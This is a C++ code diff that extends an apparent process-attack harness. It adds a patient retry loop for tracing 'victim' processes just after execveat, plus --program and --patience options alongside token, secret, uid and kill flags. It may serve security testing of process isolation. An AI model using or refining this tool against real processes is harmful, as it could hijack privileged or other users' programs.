@@ -77,9 +77,19 @@ Phase attack(pid_t pid, int pidfd, const Options& options, Count& count) {
   return Phase::gone;
 }
 
-void attackAfter(pid_t pid, int pidfd) {
+/// Whoever traced the process up to its execveat may hold it for a moment longer.
+int tryPatiently(const Way& way, pid_t pid, int pidfd, int millis) {
+  int error = way.tryIt(pid, pidfd);
+  for (int i = 0; error == EPERM && way.holds && i < millis; ++i) {
+    ::usleep(1000);
+    error = way.tryIt(pid, pidfd);
+  }
+  return error;
+}
+
+void attackAfter(pid_t pid, int pidfd, const Options& options) {
   for (const Way& way : ways()) {
-    const int error = way.tryIt(pid, pidfd);
+    const int error = tryPatiently(way, pid, pidfd, options.patience);
     if (error == 0 && way.holds) {
       int state = 0;
       (void)stopSeized(pid, state);
@@ -97,7 +107,7 @@ void meet(pid_t pid, const Options& options, Count& count) {
   const Phase end = attack(pid, pidfd, options, count);
   say("victim " + std::to_string(pid) + " " + describe(pid) +
       (end == Phase::executed ? " executed" : " ended"));
-  if (end == Phase::executed) attackAfter(pid, pidfd);
+  if (end == Phase::executed) attackAfter(pid, pidfd, options);
   ::close(pidfd);
 }
 
@@ -144,6 +154,8 @@ int run(int argc, char** argv) {
     };
     if (const char* token = value("--token="))
       options.token = token;
+    else if (const char* program = value("--program="))
+      options.program = program;
     else if (const char* secret = value("--secret="))
       options.secret = secret;
     else if (const char* report = value("--report="))
@@ -152,6 +164,8 @@ int run(int argc, char** argv) {
       options.uid = static_cast<unsigned>(std::atoi(uid));
     else if (const char* seconds = value("--seconds="))
       options.seconds = std::atoi(seconds);
+    else if (const char* patience = value("--patience="))
+      options.patience = std::atoi(patience);
     else if (const char* victims = value("--victims="))
       options.victims = std::atoi(victims);
     else if (word == "--kill")
